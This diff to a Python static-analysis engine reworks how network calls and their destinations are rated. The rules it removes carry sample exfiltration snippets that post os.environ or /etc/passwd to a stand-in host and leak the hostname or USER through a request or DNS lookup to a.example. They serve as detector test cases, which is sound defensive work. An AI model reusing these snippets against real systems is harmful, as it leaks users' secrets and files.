@@ -8,50 +8,21 @@ from urllib.parse import urlsplit
 from engine.analysis.python.declare import python_rule
 from engine.analysis.python.evaluate.evaluator import Evaluator
 from engine.analysis.python.evaluate.patterns import HOLE, pattern_of
-from engine.analysis.python.evaluate.sink_registry import CALLS, METHODS, PREFIXES, PythonCall, handles
-from engine.analysis.python.evaluate.values import PRIVATE, PythonValue, Taint, taint_words
+from engine.analysis.python.evaluate.sink_registry import (
+    ANY_OBJECT,
+    CALLS,
+    METHODS,
+    PREFIXES,
+    PythonCall,
+    handles,
+)
+from engine.analysis.python.evaluate.values import PythonValue, Taint
 from engine.analysis.python.rules import network as rules
 from engine.analysis.python.sinks import paths
+from engine.analysis.python.sinks.outgoing import outgoing, report_destination
 from engine.analysis.python.word_lists import words
 from engine.models import EffectKind, Level
 
-UPLOAD = python_rule(
-    "py-upload",
-    "Data is sent out",
-    "exfil_upload",
-    Level.MEDIUM,
-    attack="Carries data out of the machine.",
-    why="MEDIUM: forms are posted too; HIGH where the data is private.",
-    fix="Request the domain as a permission, and state what is sent.",
-    match=(
-        "import requests\nrequests.post('https://a.example', data=d)",
-        "import socket\ns = socket.socket()\ns.sendall(x)",
-    ),
-    not_match=("import requests\nrequests.get('https://a.example')",),
-    cwe=200,
-    owasp="LLM02",
-)
-EXFILTRATION = python_rule(
-    "py-exfiltration",
-    "Private data leaves the machine",
-    "exfil_upload",
-    Level.CRITICAL,
-    attack="Sends secrets, the environment, files or facts about the machine to an attacker.",
-    why=("CRITICAL: private data is sent over the network; HIGH for files and facts about the machine."),
-    fix="Remove it.",
-    match=(
-        "import os, requests\nrequests.post(u, data=dict(os.environ))",
-        "import requests\nrequests.post(u, data=open('/etc/passwd').read())",
-        "import socket, requests\nrequests.get('http://a.example/?h=' + socket.gethostname())",
-        "import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.a.example')",
-    ),
-    not_match=(
-        "import requests\nrequests.post(u, data={'a': 1})",
-        "import socket\nsocket.gethostbyname(socket.gethostname())",
-    ),
-    cwe=200,
-    owasp="LLM02",
-)
 INSECURE_TLS = python_rule(
     "py-insecure-transport",
     "The server's certificate is not checked",
@@ -66,9 +37,6 @@ INSECURE_TLS = python_rule(
 )
 
 
-_UPLOADING = frozenset(
-    words("post put patch send sendall sendto sendmail send_message storbinary storlines upload publish")
-)
 _CALM = re.compile(
     r"^(?:requests\.(?:exceptions|utils|structures|codes|compat|adapters|auth|models)|http\.(?:HTTPStatus|cookies|cookiejar)|"
     r"urllib\.(?:parse|error|robotparser)|urllib\.request\.(?:Request|quote|build_opener|ProxyHandler|pathname2url|HTTP\w*Handler)|"
@@ -82,22 +50,46 @@ _RESULT_READS = re.compile(
     r"settimeout|setsockopt|getsockname|fileno|shutdown|setblocking|getpeername|makefile|quit|login|starttls|ehlo|"
     r"add_header|mount|headers|cookies|get_all|update|encode|split|strip|readline|getheader|iter_any|release)\b"
 )
+_RAISED = re.compile(
+    r"\.\w*(?:Error|Exception|Warning|Timeout)$|\.(?:str|int|len|print|input|disable_warnings)$"
+)
+"""What a library raises, and built-in names that are taken for its own."""
+_READING = frozenset(words("get head options urlopen"))
+_ADDRESS = re.compile(r"^\w+://[\w.-]+\.[a-z]{2,}(?::\d+)?(?:[/?#]|$)", re.IGNORECASE)
+"""The address of a host that has a name, before anything that is known only at run time."""
+_HOST = re.compile(r"^[\w\ufffc-]+(?:\.[\w\ufffc-]+)*\.?$|^[0-9a-fA-F:]+$")
 LOCAL = re.compile(r"^(?:localhost|127\.|::1|\[::1\])")
 
 
 def _client(evaluator: Evaluator, call: PythonCall) -> PythonValue | None:
     """Anything that a network library does."""
     name = call.name
-    if _CALM.match(name):
-        value = PythonValue(name=f"{name}()", taint=call.taint)
-        value.items = dict(enumerate(call.args))
-        return value
+    if _CALM.match(name) or _RAISED.search(name):
+        return _made(call)
     if _RESULT_READS.search(name):
         taint = call.receiver.taint if call.receiver is not None else 0
         value = PythonValue(name=f"{name}()", taint=taint | call.taint)
         value.trail = call.receiver.trail if call.receiver is not None else ()
         return value
-    return report_request(evaluator, call, name.rpartition(".")[2])
+    verb = name.rpartition(".")[2]
+    known = ANY_OBJECT.get(verb)
+    if known is not None:
+        known(evaluator, call)
+    return report_request(evaluator, call, verb)
+
+
+_REQUEST = ("url", "data", "headers")
+
+
+def _made(call: PythonCall) -> PythonValue:
+    """Return an object of a library that reaches nobody yet; a request knows its parts."""
+    value = PythonValue(name=f"{call.name}()", taint=call.taint)
+    value.items = dict(enumerate(call.args))
+    if call.name.endswith(".Request"):
+        at = 0 if call.name.startswith("urllib") else 1
+        parts = {key: call.arg(at + index, key) for index, key in enumerate(_REQUEST)}
+        value.items = {**call.keywords, **parts}
+    return value
 
 
 def report_request(evaluator: Evaluator, call: PythonCall, verb: str) -> PythonValue:
@@ -105,7 +97,7 @@ def report_request(evaluator: Evaluator, call: PythonCall, verb: str) -> PythonV
     address = address_of(call)
     add_network_effects(evaluator, call, address)
     where = f" of `{address.replace(HOLE, '…')[:120]}`" if address else ""
-    evaluator.report(rules.NETWORK, call.node, f"`{verb}`{where}")
+    evaluator.report(rules.NETWORK, call.node, f"`{verb}`{where}", severity=_weight(call, verb, address))
     evaluator.add_fact("network", call.node)
     report_destination(evaluator, call, verb)
     verify = call.keywords.get("verify")
@@ -116,27 +108,10 @@ def report_request(evaluator: Evaluator, call: PythonCall, verb: str) -> PythonV
     return value
 
 
-def report_destination(evaluator: Evaluator, call: PythonCall, verb: str) -> None:
-    """Report what is sent: private data is worse than any."""
-    taint = call.taint | (call.receiver.taint if call.receiver is not None else 0)
-    body = call.has(9, "data") or call.has(9, "json") or call.has(9, "files") or verb in _UPLOADING
-    private = taint & PRIVATE
-    if private:
-        grave = private & (Taint.SECRET | Taint.SENSITIVE | Taint.SCREEN | Taint.ENVIRONMENT)
-        level = Level.CRITICAL if grave and (body or not private & Taint.SECRET) else Level.HIGH
-        tainted = next(
-            (arg for arg in (*call.args, *call.keywords.values()) if arg is not None and arg.taint), None
-        )
-        authorised = private == private & (Taint.SECRET | Taint.ENVIRONMENT) and not body
-        if authorised:
-            level = Level.MEDIUM
-        evaluator.report(
-            EXFILTRATION, call.node, f"Sends {taint_words(private)}", severity=level, value=tainted
-        )
-    elif body and taint & Taint.FILE:
-        evaluator.report(EXFILTRATION, call.node, "Sends the content of a file", severity=Level.HIGH)
-    elif body:
-        evaluator.report(UPLOAD, call.node, "Sends data out")
+def _weight(call: PythonCall, verb: str, address: str | None) -> Level | None:
+    """Reading from a host that the code names is what a script does."""
+    reads = verb in _READING and not outgoing(call, verb).has_body
+    return Level.LOW if reads and address is not None and _ADDRESS.match(address) else None
 
 
 def address_of(call: PythonCall) -> str | None:
@@ -148,11 +123,19 @@ def address_of(call: PythonCall) -> str | None:
             return f"{value.const[0]}:{value.const[1]}"
         if isinstance(value.const, list | tuple) and len(value.const) == 2:
             return f"{value.const[0]}:{value.const[1]}"
-        if value.items is not None and "pattern" not in value.items and value.items.get(0) is not None:
+        if value.items is not None and value.items.get("url") is not None:
+            text = pattern_of(value.items["url"])
+            return None if text == HOLE else text
+        if (
+            value.items is not None
+            and "pattern" not in value.items
+            and len(value.items) == 2
+            and 0 in value.items
+        ):
             host, port = value.items.get(0), value.items.get(1)
             return f"{pattern_of(host)}:{pattern_of(port)}"
         text = pattern_of(value)
-        if text != HOLE and len(text) > 3:
+        if text != HOLE and len(text) > 3 and not (text.isupper() and text.isalpha()):
             return text
     return None
 
@@ -175,6 +158,9 @@ def add_network_effects(evaluator: Evaluator, call: PythonCall, address: str | N
         )
         return
     host, _, port = address.rpartition(":")
+    if not _HOST.match(host or address) or not (host or address).strip(HOLE + "."):
+        evaluator.add_effect(EffectKind.HOST, None, call.node)
+        return
     evaluator.add_effect(EffectKind.HOST, (host or shown).replace(HOLE, "…"), call.node, pattern=pattern)
     if port.isdigit() and host:
         evaluator.add_effect(EffectKind.PORT, port, call.node)
